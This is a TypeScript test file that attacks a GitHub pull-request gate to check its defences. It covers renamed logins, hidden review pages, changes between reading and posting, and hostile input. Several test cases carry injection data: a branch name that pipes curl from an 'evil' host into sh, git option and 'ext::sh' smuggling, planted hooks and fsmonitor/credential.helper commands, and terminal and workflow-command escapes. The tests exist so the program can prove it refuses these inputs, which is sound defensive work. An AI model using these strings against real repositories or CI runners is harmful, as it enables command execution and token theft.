/**
 * Attacks on the gate by way of GitHub: who somebody is, what is hidden on a later page, what changes between looking
 * and posting, whose check a commit carries, and what hostile answers and texts can do to the program.
 */
import { readdirSync, writeFileSync } from "node:fs";
import { createServer } from "node:http";
import { join } from "node:path";
import { afterEach, describe, expect, it, onTestFinished } from "vitest";
import { openForge } from "../../src/adapters/github/open.ts";
import { postDecision } from "../../src/app/post.ts";
import { escapeMarkdown } from "../../src/cli/render/escape.ts";
import { Failure } from "../../src/core/model/failure.ts";
import { forgeFor, newScene, postingFor, repo, type Scene } from "../github/scene.ts";
import { workflowToken } from "../github/server.ts";
import { git, newFolder } from "../repository-on-disk.ts";

let scene: Scene;

async function begin(): Promise<Scene> {
  scene = await newScene();
  return scene;
}

afterEach(() => expect(scene.hub.violations).toEqual([]));

async function failureOf(work: Promise<unknown>): Promise<Failure> {
  const error: unknown = await work.then(
    () => undefined,
    (thrown: unknown) => thrown,
  );
  if (error instanceof Failure) return error;
  throw new Error(`no Failure but ${String(error)}`);
}

describe("who somebody is", () => {
  it("follows the id when a login was renamed and registered again by somebody else", async () => {
    const { hub, forge, bob } = await begin();
    hub.forge.review(1, bob, "APPROVED");
    bob.login = "robert";
    const impostor = hub.forge.person(666, "bob");
    hub.forge.review(1, impostor, "APPROVED");
    const { reviews } = await forge.pullRequest(repo, 1);
    expect(reviews.map(({ user }) => user)).toEqual([
      { id: 102, login: "robert", type: "User" },
      { id: 666, login: "bob", type: "User" },
    ]);
  });

  it("is nobody when the account was deleted", async () => {
    const { hub, forge, bob, pull } = await begin();
    hub.forge.review(1, bob, "APPROVED");
    for (const review of pull.reviews) review.user = null;
    expect((await forge.pullRequest(repo, 1)).reviews).toMatchObject([{ user: null, state: "APPROVED" }]);
    pull.author = { id: 10_137, login: "ghost", type: "User" };
    expect(await forge.pullRequest(repo, 1)).toMatchObject({
      author: null,
      gaps: [expect.stringContaining("is gone")],
    });
  });

  it("says that a bot is one", async () => {
    const { hub, forge } = await begin();
    hub.forge.review(1, hub.forge.person(555, "approver[bot]", "Bot"), "APPROVED");
    expect((await forge.pullRequest(repo, 1)).reviews).toMatchObject([{ user: { id: 555, type: "Bot" } }]);
  });

  it("is no other account because of the e-mail address or name in a commit", async () => {
    const { hub, forge, alice } = await begin();
    hub.forge.push({ id: 999_999, login: "bob", type: "User" }, "change", { "registry/d": "d" });
    const { commits, pushers } = await forge.pullRequest(repo, 1);
    expect(commits.map(({ author }) => author?.id ?? null)).toEqual([alice.id, null]);
    // Whoever pushed it is known all the same.
    expect(pushers?.map(({ id }) => id)).toEqual([101, 999_999]);
  });

  it("cannot approve their own pull request, on GitHub either", async () => {
    const { hub, alice } = await begin();
    expect(hub.forge.review(1, alice, "APPROVED")).toMatch(/own pull request/);
  });
});

describe("what is not shown at once", () => {
  it("the deciding review of 101, on page 2", async () => {
    const { hub, forge, bob, carol } = await begin();
    for (let index = 0; index < 100; index += 1) hub.forge.review(1, carol, "COMMENTED");
    hub.forge.review(1, bob, "CHANGES_REQUESTED");
    const { reviews, gaps } = await forge.pullRequest(repo, 1);
    expect([reviews.length, reviews.at(-1)?.state, gaps]).toEqual([101, "CHANGES_REQUESTED", []]);
  });

  it("a page 2 that a proxy hides by dropping the Link header", async () => {
    const { hub, forge, bob, carol } = await begin();
    for (let index = 0; index < 100; index += 1) hub.forge.review(1, carol, "COMMENTED");
    hub.forge.review(1, bob, "CHANGES_REQUESTED");
    const drop = (value: unknown, headers: Record<string, string>): unknown => (
      delete headers["link"],
      value
    );
    hub.faults.push({ operation: /reviews/, change: drop });
    expect((await forge.pullRequest(repo, 1)).reviews.at(-1)?.state).toBe("CHANGES_REQUESTED");
  });

  it("a page 2 that is empty although page 1 promised it", async () => {
    const { hub, forge, carol } = await begin();
    for (let index = 0; index < 101; index += 1) hub.forge.review(1, carol, "COMMENTED");
    const promise = (_value: unknown, headers: Record<string, string>): unknown => (
      (headers["link"] = '<https://x.example/?page=3>; rel="next"'),
      []
    );
    hub.faults.push({ operation: /reviews/, skip: 1, change: promise });
    expect((await forge.pullRequest(repo, 1)).gaps).toEqual(["Not all reviews could be read."]);
  });

  it("a page 2 that does not come", async () => {
    const { hub, forge, carol } = await begin();
    for (let index = 0; index < 101; index += 1) hub.forge.review(1, carol, "COMMENTED");
    for (let index = 0; index < 4; index += 1)
      hub.faults.push({ operation: /reviews/, skip: index === 0 ? 1 : 0, status: 502 });
    expect(await failureOf(forge.pullRequest(repo, 1))).toMatchObject({
      code: "forge/unavailable",
      retryable: true,
    });
  });

  it("a review that slips to another page while pages are read", async () => {
    const { hub, forge, carol, bob, pull } = await begin();
    for (let index = 0; index < 101; index += 1) hub.forge.review(1, carol, "COMMENTED");
    const late = {
      id: 5,
      user: bob,
      state: "APPROVED",
      commit_id: pull.head,
      submitted_at: "2026-07-01T00:00:00Z",
    } as const;
    hub.faults.push({ operation: /reviews/, skip: 1, before: () => pull.reviews.unshift(late) });
    expect((await forge.pullRequest(repo, 1)).gaps).toEqual([expect.stringContaining("answered twice")]);
  });

  it("changed files beyond the 3,000 that GitHub lists: the list is never asked for", async () => {
    const { hub, forge, pull } = await begin();
    pull.counts = { changedFiles: 3001 };
    expect(await forge.pullRequest(repo, 1)).toMatchObject({ changedFiles: 3001, gaps: [] });
    expect(hub.requests.filter((each) => each.includes("/files"))).toEqual([]);
  });

  it.each([
    ["fewer commits than GitHub counts", { commits: 3 }],
    ["more commits than the comparison lists", { commits: 300 }],
  ])("%s", async (_what, counts) => {
    const { forge, pull } = await begin();
    pull.counts = counts;
    expect((await forge.pullRequest(repo, 1)).gaps).toEqual([
      `GitHub counts ${counts.commits} commits and lists 1.`,
    ]);
  });

  it("a commit list without the head", async () => {
    const { hub, forge } = await begin();
    hub.faults.push({
      operation: /commits$/,
      change: (value) =>
        JSON.parse(JSON.stringify(value).replaceAll(scene.pull.head, "a".repeat(40))) as unknown,
    });
    expect((await forge.pullRequest(repo, 1)).gaps).toEqual([expect.stringContaining("without the head")]);
  });
});

describe("what changes between looking and posting", () => {
  const judged = async (s: Scene) => {
    const facts = await s.forge.pullRequest(repo, 1);
    return { repo, facts, posting: postingFor(facts) };
  };

  it.each<readonly [string, (s: Scene) => unknown, string]>([
    ["a push", ({ hub, alice }) => hub.forge.push(alice, "change", { "registry/e": "e" }), "The head"],
    [
      "a landing on the base",
      ({ hub, alice }) => hub.forge.push(alice, "main", { "registry/f": "f" }),
      "The tip",
    ],
    [
      "a retarget",
      ({ hub, alice, pull }) => (
        hub.forge.push(alice, "side", {}),
        (pull.base = "side"),
        (pull.updated += 1)
      ),
      "The target branch",
    ],
    ["a request for changes", ({ hub, bob }) => hub.forge.review(1, bob, "CHANGES_REQUESTED"), "The reviews"],
    [
      "a dismissal",
      ({ pull }) => ((pull.reviews[0] as { state: string }).state = "DISMISSED"),
      "The reviews",
    ],
    ["a merge", ({ hub }) => hub.forge.merge(1), "The tip"],
    ["a close", ({ pull }) => (pull.state = "closed"), "The state"],
  ])("%s is seen, and nothing is posted", async (_what, act, says) => {
    const s = await begin();
    s.hub.forge.review(1, s.carol, "APPROVED");
    const request = await judged(s);
    act(s);
    const failure = await failureOf(postDecision(request, s.forge));
    expect(failure).toMatchObject({ code: "forge/changed", category: "conflict", retryable: true });
    expect(failure.message).toContain(says);
    expect([s.hub.forge.checks, s.hub.forge.comments]).toEqual([[], []]);
  });

  it("a pull request that moves while it is read is read again, and given up when it never stops", async () => {
    const { hub, forge, alice, pull } = await begin();
    const push = (): unknown => hub.forge.push(alice, "change", { "registry/g": String(pull.updated) });
    hub.faults.push({ operation: /reviews/, before: push });
    expect((await forge.pullRequest(repo, 1)).head.sha).toBe(hub.forge.tip("change"));
    for (let index = 0; index < 3; index += 1) hub.faults.push({ operation: /reviews/, before: push });
    expect(await failureOf(forge.pullRequest(repo, 1))).toMatchObject({
      code: "forge/moving",
      retryable: true,
    });
  });

  it("a review after the merge carries its time, later than the merge", async () => {
    const { hub, forge, bob, pull } = await begin();
    hub.forge.merge(1);
    hub.forge.review(1, bob, "APPROVED");
    Object.assign(pull.reviews[0] ?? {}, { submitted_at: "2026-07-01T12:00:01Z" });
    const { mergedAt, reviews } = await forge.pullRequest(repo, 1);
    expect([mergedAt, reviews[0]?.submitted_at]).toEqual(["2026-07-01T12:00:00Z", "2026-07-01T12:00:01Z"]);
  });
});

describe("whose check a commit carries", () => {
  it("not that of another open pull request with the same head", async () => {
    const { hub, forge, carol } = await begin();
    hub.forge.push(carol, "side", {}, hub.forge.tip("main"));
    hub.forge.open(carol, "change", "side");
    const facts = await forge.pullRequest(repo, 1);
    expect(await postDecision({ repo, facts, posting: postingFor(facts) }, forge)).toMatchObject({
      conclusion: "failure",
      sharedWith: [2],
    });
    expect(hub.forge.checks).toMatchObject([
      { conclusion: "failure", output: { title: expect.stringContaining("#2") } },
    ]);
  });

  it("not that of a decision about another branch", async () => {
    const { hub, forge, carol } = await begin();
    hub.forge.push(carol, "side", {}, hub.forge.tip("main"));
    const { number } = hub.forge.open(carol, "change", "side");
    const facts = await forge.pullRequest(repo, number);
    expect(await failureOf(postDecision({ repo, facts, posting: postingFor(facts) }, forge))).toMatchObject({
      code: "forge/other-base",
    });
    expect(hub.forge.checks).toEqual([]);
  });

  it("is never completed when posting breaks off on the way", async () => {
    const { hub, forge } = await begin();
    const facts = await forge.pullRequest(repo, 1);
    const annotations = Array.from(
      { length: 60 },
      () => ({ path: "a", startLine: 1, endLine: 1, level: "notice", title: "t", message: "m" }) as const,
    );
    for (let index = 0; index < 4; index += 1)
      hub.faults.push({ operation: /^PATCH .*check-runs/, status: 500 });
    await failureOf(postDecision({ repo, facts, posting: postingFor(facts, { annotations }) }, forge));
    expect(hub.forge.checks).toMatchObject([{ status: "in_progress", conclusion: null }]);
  });

  it("is posted once by a POST that fails: it is not repeated", async () => {
    const { hub, forge } = await begin();
    const facts = await forge.pullRequest(repo, 1);
    hub.faults.push({ operation: /^POST .*check-runs/, status: 502 });
    await failureOf(postDecision({ repo, facts, posting: postingFor(facts) }, forge));
    expect(hub.requests.filter((each) => each.startsWith("POST "))).toHaveLength(1);
  });
});

describe("hostile texts", () => {
  it("somebody else's comment with our mark is left alone", async () => {
    const { hub, forge, bob } = await begin();
    hub.forge.comments.push({ id: 1, number: 1, user: bob, body: "<!-- assent:gate -->\nAllowed", edits: 0 });
    const facts = await forge.pullRequest(repo, 1);
    await postDecision({ repo, facts, posting: postingFor(facts, { comment: "Denied" }) }, forge);
    expect(hub.forge.comments.map(({ user, edits }) => [user.login, edits])).toEqual([
      ["bob", 0],
      ["github-actions[bot]", 0],
    ]);
  });

  it("a title and a branch say nothing to the program", async () => {
    const { hub, forge, alice } = await begin();
    const branch = "x';curl${IFS}evil|sh;#";
    hub.forge.push(alice, branch, { "registry/h": "h" });
    const pull = hub.forge.open(
      alice,
      branch,
      "main",
      "::set-output name=x::y\n\u001b[31m <script>@everyone",
    );
    const facts = await forge.pullRequest(repo, pull.number);
    expect(facts.head.sha).toBe(pull.head);
    expect(JSON.stringify(facts)).not.toContain("curl");
    expect(facts.pushers).toEqual([{ id: 101, login: "alice" }]);
  });

  it("a login in a comment mentions nobody and marks nothing up", () => {
    expect(escapeMarkdown("@octo/everyone <img src=x> [a](https://evil.example) \u202e **b**")).toBe(
      "&#64;octo/everyone &lt;img src=x&gt; \\[a\\]\\(https&#58;//evil.example\\) \\\\u\\{202e\\} \\*\\*b\\*\\*",
    );
  });

  it("a message of GitHub is quoted without control characters and without tokens", async () => {
    const { hub, forge } = await begin();
    const message = `\u001b[2J::error::${workflowToken}\nghp_abcdefghijklmnop \u202e`;
    hub.faults.push({ operation: /pulls\/\{pull_number\}$/, status: 403, body: { message } });
    const failure = await failureOf(forge.pullRequest(repo, 1));
    expect(failure.code).toBe("forge/forbidden");
    expect(failure.message).toContain("[2J::error::*** ***");
    expect(failure.message).not.toMatch(/[\p{Cc}\p{Cf}]/u);
    expect(`${JSON.stringify(failure)}${String(failure.cause)}${failure.stack}`).not.toContain(workflowToken);
  });
});

describe("hostile names for git", () => {
  it.each([
    "refs/heads/--upload-pack=touch pwned",
    "refs/heads/a..b",
    "refs/tags/v1",
    "main",
    "refs/heads/a:refs/heads/main",
    "refs/heads/a\nb",
  ])("the base branch %j is refused", async (base) => {
    const { forge } = await begin();
    const failure = await failureOf(forge.bring(repo, { number: 1, base, folder: newFolder() }));
    expect(failure.code).toBe("forge/branch");
  });

  it("a folder that holds something else is left alone", async () => {
    const { forge } = await begin();
    const folder = newFolder();
    writeFileSync(join(folder, "thesis.txt"), "x");
    const failure = await failureOf(forge.bring(repo, { number: 1, base: "refs/heads/main", folder }));
    expect([failure.code, readdirSync(folder)]).toEqual(["forge/folder", ["thesis.txt"]]);
  });

  it.each(["ext::sh -c id", "file:///etc", "http://evil.example", "nonsense"])(
    "the server %j is refused",
    async (address) => {
      const { hub } = await begin();
      expect(() => forgeFor(hub, { GITHUB_SERVER_URL: address })).toThrow(
        expect.objectContaining({ code: "forge/address" }),
      );
    },
  );

  it("hooks and settings of the folder's repository are not run", async () => {
    const { forge, pull } = await begin();
    const folder = newFolder();
    git(folder, ["init", "-q", "."]);
    const hook = join(folder, ".git/hooks/reference-transaction");
    writeFileSync(hook, `#!/bin/sh\ntouch ${folder}/pwned\n`, { mode: 0o755 });
    git(folder, ["config", "core.fsmonitor", `touch ${folder}/pwned`]);
    git(folder, ["config", "credential.helper", `!touch ${folder}/pwned`]);
    expect((await forge.bring(repo, { number: 1, base: "refs/heads/main", folder })).head).toBe(pull.head);
    expect(readdirSync(folder)).toEqual([".git"]);
  });
});

describe("hostile answers", () => {
  it.each<readonly [string, RegExp, unknown]>([
    ["no JSON", /pulls\/\{pull_number\}$/, "<html>"],
    ["half a JSON", /pulls\/\{pull_number\}$/, '{"number":1,'],
    ["a list for an object", /pulls\/\{pull_number\}$/, []],
    ["null", /pulls\/\{pull_number\}$/, null],
    ["an object for a list", /reviews/, {}],
    [
      "a review of no state",
      /reviews/,
      [{ id: 1, user: null, commit_id: null, submitted_at: "2026-07-01T00:00:00Z" }],
    ],
    [
      "a review of a new state",
      /reviews/,
      [{ id: 1, user: null, state: "BLESSED", commit_id: null, submitted_at: "2026-07-01T00:00:00Z" }],
    ],
    [
      "an id that is a text",
      /reviews/,
      [{ id: "1", user: null, state: "APPROVED", commit_id: null, submitted_at: "2026-07-01T00:00:00Z" }],
    ],
    [
      "an id that no number holds",
      /reviews/,
      '[{"id":9007199254740993,"user":null,"state":"APPROVED","commit_id":null,"submitted_at":"2026-07-01T00:00:00Z"}]',
    ],
    [
      "an account without an id",
      /reviews/,
      [
        {
          id: 1,
          user: { login: "bob", type: "User" },
          state: "APPROVED",
          commit_id: null,
          submitted_at: "2026-07-01T00:00:00Z",
        },
      ],
    ],
    [
      "a time that is none",
      /reviews/,
      [{ id: 1, user: null, state: "APPROVED", commit_id: null, submitted_at: "yesterday" }],
    ],
    [
      "a head that is no commit",
      /reviews/,
      [{ id: 1, user: null, state: "APPROVED", commit_id: "main", submitted_at: "2026-07-01T00:00:00Z" }],
    ],
    ["another branch", /git\/ref/, { ref: "refs/heads/other", object: { sha: "a".repeat(40) } }],
    ["a cursor that is an address", /activity/, []],
  ])("%s: unusable, so nothing is decided", async (what, operation, body) => {
    const { hub, forge } = await begin();
    const headers: Record<string, string> = what.includes("cursor")
      ? { link: '<https://evil.example/>; rel="next"' }
      : {};
    hub.faults.push({
      operation,
      headers,
      ...(typeof body === "string" ? { change: () => body } : { status: 200, body }),
    });
    const failure = await failureOf(forge.pullRequest(repo, 1));
    expect(failure).toMatchObject({ code: "forge/malformed", retryable: true });
  });

  it.each([301, 302, 307, 308])(
    "a redirect (%i) to another host is not followed, and takes no token there",
    async (status) => {
      const { hub, forge } = await begin();
      const asked: string[] = [];
      const other = createServer((request, response) => {
        asked.push(request.headers.authorization ?? "without");
        response.end("{}");
      });
      await new Promise<void>((resolve) => other.listen(0, "127.0.0.1", resolve));
      onTestFinished(() => void other.close());
      const { port } = other.address() as { port: number };
      hub.faults.push({
        operation: /pulls\/\{pull_number\}$/,
        status,
        headers: { location: `http://127.0.0.1:${port}/` },
      });
      expect(await failureOf(forge.pullRequest(repo, 1))).toMatchObject({ code: "forge/redirected" });
      expect(asked).toEqual([]);
    },
  );

  it.each([
    "http://github.example",
    "ftp://github.example",
    "https://user:secret@github.example",
    "not an address",
    "",
  ])("the address %j is refused", async (address) => {
    await begin();
    const open = (): unknown =>
      openForge({ env: { GITHUB_API_URL: address, GITHUB_TOKEN: "t" }, now: () => 0, version: "0" });
    expect(open).toThrow(expect.objectContaining({ code: "forge/address" }));
  });

  it("a server that is not there is a failure that may be retried, without the token", async () => {
    const { hub } = await begin();
    const failure = await failureOf(
      forgeFor(hub, { GITHUB_API_URL: "http://127.0.0.1:9" }).pullRequest(repo, 1),
    );
    expect(failure).toMatchObject({ code: "forge/unavailable", retryable: true });
    expect(`${failure.message}${failure.stack}`).not.toContain(workflowToken);
  });
});
